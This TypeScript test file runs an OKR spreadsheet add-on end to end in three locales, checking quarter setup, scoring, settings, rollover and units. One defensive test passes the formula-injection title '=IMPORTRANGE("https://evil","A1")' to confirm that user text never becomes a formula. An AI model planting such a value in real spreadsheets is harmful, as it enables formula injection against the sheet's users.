// The quarter cycle end to end through the built bundle in the emulator: what a team sees in its sheets, in a
// spreadsheet of each of three locales (en_US; de_DE and fr_FR, which write a decimal comma and separate a
// formula's arguments with `;`). Numbers are typed into the sidebar as the locale's users type them
// (helpers/locales.ts) and the sheets must compute the same in all three.
import { beforeEach, describe, expect, it } from 'vitest';
import { type Addon, call, clock, records, startAddon, values } from '../helpers/addon';
import { formulaIn, shown, TEST_LOCALES, typed } from '../helpers/locales';
import { quarterWithProgress, seedOkrs } from '../helpers/okrs';

const MID_Q1 = '2027-02-14T10:00:00Z';

describe.each(TEST_LOCALES)('in %s', (locale) => {
  let addon: Addon;
  const t = (en: string) => typed(locale, en);
  const s = (en: string) => shown(locale, en);

  beforeEach(() => {
    addon = startAddon({ now: clock(MID_Q1), locale });
  });

  describe('set up a quarter', () => {
    it('creates the two sheets with DESIGN.md columns, frozen headers and live header formulas', () => {
      const state = call<{ quarter: { label: string; start: string; end: string; elapsed: number } }>(
        addon,
        'setUpQuarter',
        {
          quarter: '2027-Q1',
        },
      );
      expect(state.quarter).toMatchObject({ label: '2027-Q1', start: '2027-01-01', end: '2027-03-31' });
      expect(state.quarter.elapsed).toBeCloseTo(45 / 90, 6);
      expect(values(addon, '2027-Q1 Objectives')[0]).toEqual([
        'ID',
        'Objective',
        'Owner',
        'Team',
        'Aligns to',
        'Key results',
        'Score',
        'Status',
        'Notes',
      ]);
      expect(values(addon, '2027-Q1 Key Results')[0]).toEqual([
        'ID',
        'Objective',
        'Key result',
        'Owner',
        'Type',
        'Baseline',
        'Target',
        'Current',
        'KPI',
        'Weight',
        'Confidence',
        'Score',
        'Status',
        'Last check-in',
        'Notes',
        'Unit',
      ]);
      const kr = addon.spreadsheet.getSheetByName('2027-Q1 Key Results')!;
      expect(kr.getFrozenRows()).toBe(1);
      expect(kr.getRange('L1').getFormula()).toBe(
        formulaIn(locale, {
          en: '={"Score";OKR_SCORE(F2:F,G2:G,H2:H,E2:E,1)}',
          comma: '={"Score";OKR_SCORE(F2:F;G2:G;H2:H;E2:E;1)}',
        }),
      );
      expect(addon.ui.toasts.at(-1)?.message).toMatch(
        /Created "2027-Q1 Objectives" and "2027-Q1 Key Results"/,
      );
    });

    it('refuses when the quarter exists and changes nothing', () => {
      call(addon, 'setUpQuarter', { quarter: '2027-Q1' });
      const before = JSON.stringify(addon.toState());
      expect(() => call(addon, 'setUpQuarter', { quarter: '2027-Q1' })).toThrow(/2027-Q1 is already set up/);
      expect(JSON.stringify(addon.toState())).toBe(before);
    });

    it("suggests today's quarter under the fiscal year start", () => {
      const state = call<{ suggestedQuarter: string; quarter?: unknown }>(addon, 'getState');
      expect(state.quarter).toBeUndefined();
      expect(state.suggestedQuarter).toBe('2027-Q1');
      call(addon, 'updateSettings', { fiscalStartMonth: 4 });
      expect(call<{ suggestedQuarter: string }>(addon, 'getState').suggestedQuarter).toBe('2027-Q4');
    });
  });

  describe('editing OKRs', () => {
    it('scores key results and rolls up the objective live, one formula per column', () => {
      const o1 = seedOkrs(addon);
      call(addon, 'checkIn', {
        krId: `${o1}.1`,
        value: t('6.5%'),
        confidence: 7,
        note: 'win-back campaign live',
      });
      call(addon, 'checkIn', { krId: `${o1}.2`, value: 45 });
      call(addon, 'checkIn', { krId: `${o1}.3`, value: '75%' });
      const krs = records(addon, '2027-Q1 Key Results');
      expect(krs.map((k) => k.ID)).toEqual(['O1.1', 'O1.2', 'O1.3']);
      expect(krs[0]!.Score).toBeCloseTo(0.5, 9);
      expect(krs[1]!.Score).toBeCloseTo(10 / 15, 9);
      expect(krs[2]!.Score).toBeCloseTo(0.5, 9);
      expect(krs[0]!.Confidence).toBe(7);
      const objectives = records(addon, '2027-Q1 Objectives');
      expect(objectives[0]!.Score).toBeCloseTo((0.5 + 10 / 15 + 0.5) / 3, 9);
      expect(objectives[0]!['Key results']).toBe(3);
      // mid-quarter (45 of 90 days): 0.5 ≥ 0.7 × 0.5 is on track
      expect(krs[0]!.Status).toBe('On track');
      const log = records(addon, 'Check-ins');
      expect(log.map((r) => [r.Quarter, r['KR ID'], r.Value, r.Note])).toEqual([
        ['2027-Q1', 'O1.1', 0.065, 'win-back campaign live'],
        ['2027-Q1', 'O1.2', 45, ''],
        ['2027-Q1', 'O1.3', 0.75, ''],
      ]);
      const state = call<{
        objectives: Array<{
          score: number;
          keyResults: Array<{ id: string; score: number; lastCheckIn: string }>;
        }>;
      }>(addon, 'getState');
      expect(state.objectives[0]!.score).toBeCloseTo((0.5 + 10 / 15 + 0.5) / 3, 9);
      expect(state.objectives[0]!.keyResults[0]).toMatchObject({ id: 'O1.1', lastCheckIn: '2027-02-14' });
    });

    it('never reuses an ID within a quarter', () => {
      const o1 = seedOkrs(addon);
      call(addon, 'deleteKeyResult', `${o1}.3`);
      const { id } = call<{ id: string }>(addon, 'saveKeyResult', {
        objectiveId: o1,
        title: 'Ship onboarding v2',
        type: 'yes/no',
      });
      expect(id).toBe('O1.4');
      call(addon, 'deleteObjective', o1, { cascade: true });
      expect(call<{ id: string }>(addon, 'saveObjective', { title: 'Next' }).id).toBe('O2');
    });

    it('keeps user text verbatim: nothing becomes a formula', () => {
      call(addon, 'setUpQuarter', { quarter: '2027-Q1' });
      const { id } = call<{ id: string }>(addon, 'saveObjective', {
        title: '=IMPORTRANGE("https://evil","A1")',
        owner: '+1-2',
      });
      call(addon, 'saveKeyResult', { objectiveId: id, title: '45%', baseline: 0, target: 10 });
      const sheet = addon.spreadsheet.getSheetByName('2027-Q1 Objectives')!;
      expect(sheet.getRange('B2').getValue()).toBe('=IMPORTRANGE("https://evil","A1")');
      expect(sheet.getRange('B2').getFormula()).toBe('');
      expect(sheet.getRange('C2').getValue()).toBe('+1-2');
      expect(addon.spreadsheet.getSheetByName('2027-Q1 Key Results')!.getRange('C2').getValue()).toBe('45%');
    });

    it('refuses bad input naming the field and the value, changing nothing', () => {
      const o1 = seedOkrs(addon);
      const before = JSON.stringify(addon.toState());
      expect(() => call(addon, 'saveKeyResult', { objectiveId: o1, title: 'x', target: 'abc' })).toThrow(
        'key result: target: "abc" is not a number',
      );
      expect(() => call(addon, 'saveKeyResult', { objectiveId: 'O9', title: 'x' })).toThrow(
        'objective O9 is not in 2027-Q1',
      );
      expect(() =>
        call(addon, 'saveKeyResult', { objectiveId: o1, title: 'x', baseline: 5, target: 5 }),
      ).toThrow(/that is a KPI to maintain, not a key result/);
      expect(() => call(addon, 'checkIn', { krId: 'O1.1', confidence: 11 })).toThrow(
        'check-in: confidence: 11 must be a whole number from 0 to 10',
      );
      expect(() => call(addon, 'saveObjective', { title: '   ' })).toThrow('objective: title: is required');
      expect(() => call(addon, 'deleteObjective', o1)).toThrow(
        /objective O1 has 3 key results \(O1.1, O1.2, O1.3\)/,
      );
      expect(JSON.stringify(addon.toState())).toBe(before);
    });

    it('shows a bad row as an error in its own Score cell and names it in the rollup', () => {
      const o1 = seedOkrs(addon);
      addon.editCell('2027-Q1 Key Results', 'H3', 'about forty');
      const krs = records(addon, '2027-Q1 Key Results');
      expect(krs[1]!.Score).toBe('#ERROR: current "about forty" is not a number');
      expect(krs[0]!.Score).toBe(0);
      expect(records(addon, '2027-Q1 Objectives')[0]!.Score).toBe(
        `#ERROR: key result ${o1}.2 has an error (current "about forty" is not a number)`,
      );
    });
  });

  describe('settings', () => {
    it('a higher cap lets over-achievement show, and new bands recolour the status; the formulas say so', () => {
      const o1 = seedOkrs(addon);
      call(addon, 'checkIn', { krId: `${o1}.2`, value: 56 }); // NPS 35 → 50, now 56: 140% of the way
      expect(records(addon, '2027-Q1 Key Results')[1]!.Score).toBe(1);
      const { state, ...settings } = call<{ state: { settings: unknown } }>(addon, 'updateSettings', {
        scoring: { cap: t('1.5'), yellowFrom: t('30%'), greenFrom: t('60%') },
      });
      // the state it answers with carries the new settings (the sidebar shows them without asking again)
      expect(state.settings).toEqual(settings);
      expect(settings).toMatchObject({ scoring: { cap: 1.5, yellowFrom: 0.3, greenFrom: 0.6 } });
      const kr = addon.spreadsheet.getSheetByName('2027-Q1 Key Results')!;
      expect(kr.getRange('L1').getFormula()).toBe(
        formulaIn(locale, {
          en: '={"Score";OKR_SCORE(F2:F,G2:G,H2:H,E2:E,(3/2))}',
          comma: '={"Score";OKR_SCORE(F2:F;G2:G;H2:H;E2:E;(3/2))}',
        }),
      );
      expect(records(addon, '2027-Q1 Key Results')[1]!.Score).toBeCloseTo(1.4, 9);
      const bandFormulas = kr
        .getConditionalFormatRules()
        .map((r) => String(r.getBooleanCondition()?.getCriteriaValues()[0]));
      expect(bandFormulas).toEqual(
        formulaIn(locale, {
          en: '=OR(M2="Done",M2="On track")|=M2="At risk"|=M2="Off track"',
          comma: '=OR(M2="Done";M2="On track")|=M2="At risk"|=M2="Off track"',
        }).split('|'),
      );
      expect(kr.getRange('M1').getFormula()).toContain('ROUND(L2:L-(3/5)*');
      // the rules colour by the status beside the score: 1.4 is Done (green), the untouched churn key result (0)
      // is Off track halfway through the quarter (red)
      const colours = addon.view('2027-Q1 Key Results').sheet.cells;
      expect([colours.L2?.background, colours.L3?.background]).toEqual(['#f4c7c3', '#b7e1cd']);
      expect(call<{ settings: unknown }>(addon, 'getState').settings).toEqual(settings);
    });

    it('refuses bands out of order, naming them, and changes nothing', () => {
      seedOkrs(addon);
      const before = JSON.stringify(addon.toState());
      expect(() => call(addon, 'updateSettings', { scoring: { yellowFrom: 0.8, greenFrom: 0.5 } })).toThrow(
        'settings: scoring.yellowFrom: yellowFrom must not be above greenFrom',
      );
      expect(() => call(addon, 'updateSettings', { fiscalStartMonth: 'May' })).toThrow(
        'settings: fiscalStartMonth: "May" is not a number',
      );
      expect(JSON.stringify(addon.toState())).toBe(before);
    });
  });

  describe('start new quarter', () => {
    it('previews what carries over without changing anything', () => {
      quarterWithProgress(addon);
      const before = JSON.stringify(addon.toState());
      const preview = call<{
        from: string;
        to: string;
        historyRows: number;
        objectives: Array<{
          id: string;
          carried: boolean;
          keyResults: Array<{ id: string; carried: boolean; newBaseline: number }>;
        }>;
      }>(addon, 'previewNewQuarter', { carry: 'unfinished' });
      expect(preview).toMatchObject({ from: '2027-Q1', to: '2027-Q2', historyRows: 4 });
      const krs = preview.objectives.flatMap((o) => o.keyResults);
      expect(krs.filter((k) => k.carried).map((k) => [k.id, k.newBaseline])).toEqual([
        ['O1.2', 45],
        ['O1.3', 0.6],
      ]);
      expect(preview.objectives.map((o) => [o.id, o.carried])).toEqual([
        ['O1', true],
        ['O2', false],
      ]);
      expect(JSON.stringify(addon.toState())).toBe(before);
    });

    it('archives final scores, carries unfinished work with new baselines, protects the old quarter', () => {
      quarterWithProgress(addon);
      const result = call(addon, 'startNewQuarter', {
        closes: '2027-Q1',
        carry: 'unfinished',
        targets: { 'O1.2': 55 },
      });
      expect(result).toMatchObject({
        quarter: '2027-Q2',
        carriedObjectives: 1,
        carriedKeyResults: 2,
        historyRows: 4,
      });
      const history = records(addon, 'OKR History');
      expect(history.map((h) => [h.Quarter, h['KR ID'], h['Final value']])).toEqual([
        ['2027-Q1', 'O1.1', 0.05],
        ['2027-Q1', 'O1.2', 45],
        ['2027-Q1', 'O1.3', 0.6],
        ['2027-Q1', 'O2.1', 'done'],
      ]);
      const scores = history.map((h) => h.Score as number);
      expect(scores[0]).toBe(1);
      expect(scores[1]).toBeCloseTo(10 / 15, 9);
      expect(scores[2]).toBe(0);
      expect(scores[3]).toBe(1);
      const next = records(addon, '2027-Q2 Key Results');
      expect(next.map((k) => [k.ID, k.Baseline, k.Target, k.Current, k.Score])).toEqual([
        ['O1.2', 45, 55, '', ''],
        ['O1.3', 0.6, 0.9, '', ''],
      ]);
      expect(records(addon, '2027-Q2 Objectives').map((o) => o.ID)).toEqual(['O1']);
      // each carried row reads in its own unit, whatever row of the copied sheet it landed in
      const q2 = addon.spreadsheet.getSheetByName('2027-Q2 Key Results')!;
      expect(q2.getRange('F2:G3').getDisplayValues()).toEqual([
        [s('45'), s('55')],
        [s('60.0%'), s('90.0%')],
      ]);
      for (const name of ['2027-Q1 Objectives', '2027-Q1 Key Results']) {
        const protections = addon.spreadsheet
          .getSheetByName(name)!
          .getProtections(addon.app.ProtectionType.SHEET);
        expect(protections).toHaveLength(1);
        expect(protections[0]!.isWarningOnly()).toBe(true);
      }
      // the closed quarter still computes
      expect(records(addon, '2027-Q1 Objectives')[0]!.Score).toBeCloseTo((1 + 10 / 15 + 0) / 3, 9);
      const state = call<{ quarter: { label: string }; settings: { currentQuarter: string } }>(
        addon,
        'getState',
      );
      expect(state.quarter.label).toBe('2027-Q2');
      expect(state.settings.currentQuarter).toBe('2027-Q2');
      expect(addon.ui.toasts.at(-1)?.message).toMatch(/2027-Q2 started: 2 key results carried over/);
    });

    it('refuses when the next quarter exists, changing nothing', () => {
      quarterWithProgress(addon);
      addon.spreadsheet.insertSheet('2027-Q2 Objectives');
      const before = JSON.stringify(addon.toState());
      expect(() => call(addon, 'startNewQuarter', { closes: '2027-Q1', carry: 'all' })).toThrow(
        /2027-Q2 is already set up/,
      );
      expect(JSON.stringify(addon.toState())).toBe(before);
    });

    it('tells a second, concurrent run that a quarter change is in progress', () => {
      quarterWithProgress(addon);
      const before = JSON.stringify(addon.toState());
      addon.locks.holdByAnotherExecution();
      expect(() => call(addon, 'startNewQuarter', { closes: '2027-Q1', carry: 'all' })).toThrow(
        'another quarter change is in progress',
      );
      expect(JSON.stringify(addon.toState())).toBe(before);
      addon.locks.releaseOtherExecution();
      expect(call(addon, 'startNewQuarter', { closes: '2027-Q1', carry: 'none' })).toMatchObject({
        quarter: '2027-Q2',
      });
    });
  });

  describe('units: a key result keeps what its numbers are', () => {
    /** A Metrics tab of weekly MRR (plain numbers: the registry says currency from the header). */
    function withMrrKpi(a: Addon) {
      a.replaceWorkbook([
        {
          name: 'Metrics',
          rows: [
            ['Week', 'MRR'],
            ...Array.from({ length: 10 }, (_, i) => [
              new Date(Date.UTC(2026, 11, 7) + i * 7 * 86_400_000),
              150_000 + i * 1_000,
            ]),
          ],
        },
      ]);
      call(a, 'tagKpi', { sheetName: 'Metrics', valueColumn: 'MRR', name: 'MRR', betterWhen: 'higher' });
      call(a, 'setUpQuarter', { quarter: '2027-Q1' });
      return call<{ id: string }>(a, 'saveObjective', { title: 'Grow revenue' }).id;
    }
    const kr = (a: Addon, quarter: string, row: number) =>
      a.spreadsheet.getSheetByName(`${quarter} Key Results`)!.getRange(`F${row}:H${row}`);
    const unitsInState = (a: Addon) =>
      call<{ objectives: Array<{ keyResults: Array<{ id: string; unit: string }> }> }>(a, 'getState')
        .objectives.flatMap((o) => o.keyResults)
        .map((k) => [k.id, k.unit]);

    it('a key result following a currency KPI stays in dollars when the next quarter starts', () => {
      const o1 = withMrrKpi(addon);
      call(addon, 'saveKeyResult', { objectiveId: o1, title: 'MRR to $200k', target: 200_000, kpiId: 'mrr' });
      const inDollars = (quarter: string) => {
        expect(records(addon, `${quarter} Key Results`)[0]).toMatchObject({
          ID: 'O1.1',
          Unit: '$',
          Baseline: 159_000,
        });
        expect(kr(addon, quarter, 2).getDisplayValues()).toEqual([
          [s('$159,000'), s('$200,000'), s('$159,000')],
        ]);
        expect(unitsInState(addon)).toEqual([['O1.1', '$']]);
      };
      inDollars('2027-Q1');
      call(addon, 'startNewQuarter', { closes: '2027-Q1', carry: 'unfinished' });
      inDollars('2027-Q2');
    });

    it('a key result typed in a unit keeps it: "$165,000", "€12.50", "36 h" as the locale writes them; percents as before', () => {
      const o1 = withMrrKpi(addon);
      const save = (title: string, baseline: string, target: string) =>
        call(addon, 'saveKeyResult', { objectiveId: o1, title, baseline, target });
      save('Enterprise deal size', t('$165,000'), t('$200,000'));
      save('Price per seat', t('€12.50'), t('€15'));
      save('Resolution time', t('36 h'), t('24 h'));
      save('Churn', t('8%'), t('5%'));
      expect(records(addon, '2027-Q1 Key Results').map((r) => [r.ID, r.Baseline, r.Target, r.Unit])).toEqual([
        ['O1.1', 165_000, 200_000, '$'],
        ['O1.2', 12.5, 15, '€'],
        ['O1.3', 36, 24, 'h'],
        ['O1.4', 0.08, 0.05, '%'],
      ]);
      const sheet = addon.spreadsheet.getSheetByName('2027-Q1 Key Results')!;
      expect(sheet.getRange('F2:G5').getDisplayValues()).toEqual([
        [s('$165,000'), s('$200,000')],
        [s('€12.50'), s('€15.00')],
        [s('36 h'), s('24 h')],
        [s('8.0%'), s('5.0%')],
      ]);
      expect(unitsInState(addon)).toEqual([
        ['O1.1', '$'],
        ['O1.2', '€'],
        ['O1.3', 'h'],
        ['O1.4', '%'],
      ]);
      // a check-in in another unit is refused, naming both
      expect(() => call(addon, 'checkIn', { krId: 'O1.1', value: t('12%') })).toThrow(
        'check-in: value: is in %, but O1.1 is in $',
      );
      call(addon, 'checkIn', { krId: 'O1.1', value: t('$180,000') });
      expect(records(addon, '2027-Q1 Key Results')[0]!.Score).toBeCloseTo(15 / 35, 9);
      // numbers in two units are refused, naming both fields
      expect(() => save('Mixed', t('8%'), t('$5'))).toThrow(
        'key result: target: is in $ but baseline is in %',
      );
      call(addon, 'startNewQuarter', { closes: '2027-Q1', carry: 'all' });
      const q2 = addon.spreadsheet.getSheetByName('2027-Q2 Key Results')!;
      expect(q2.getRange('F2:G5').getDisplayValues()).toEqual([
        [s('$180,000'), s('$200,000')],
        [s('€12.50'), s('€15.00')],
        [s('36 h'), s('24 h')],
        [s('8.0%'), s('5.0%')],
      ]);
    });

    it('a Key Results sheet made before the Unit column reads units from its formats, and gets the column next quarter', () => {
      const o1 = seedOkrs(addon);
      void o1;
      const sheet = addon.spreadsheet.getSheetByName('2027-Q1 Key Results')!;
      expect(sheet.getRange('P1').getValue()).toBe('Unit');
      // as the sheet was before the column existed, with no room left in its grid
      sheet.deleteColumns(16, sheet.getMaxColumns() - 15);
      expect(unitsInState(addon)).toEqual([
        ['O1.1', '%'],
        ['O1.2', ''],
        ['O1.3', '%'],
      ]);
      call(addon, 'checkIn', { krId: 'O1.2', value: 40 });
      call(addon, 'saveKeyResult', { objectiveId: 'O1', title: 'Win rate', baseline: '20%', target: '30%' });
      expect(unitsInState(addon).at(-1)).toEqual(['O1.4', '%']);
      call(addon, 'startNewQuarter', { closes: '2027-Q1', carry: 'all' });
      const next = records(addon, '2027-Q2 Key Results');
      expect(next.map((r) => [r.ID, r.Unit])).toEqual([
        ['O1.1', '%'],
        ['O1.2', ''],
        ['O1.3', '%'],
        ['O1.4', '%'],
      ]);
      expect(addon.spreadsheet.getSheetByName('2027-Q2 Key Results')!.getRange('P1').getValue()).toBe('Unit');
    });
  });
});
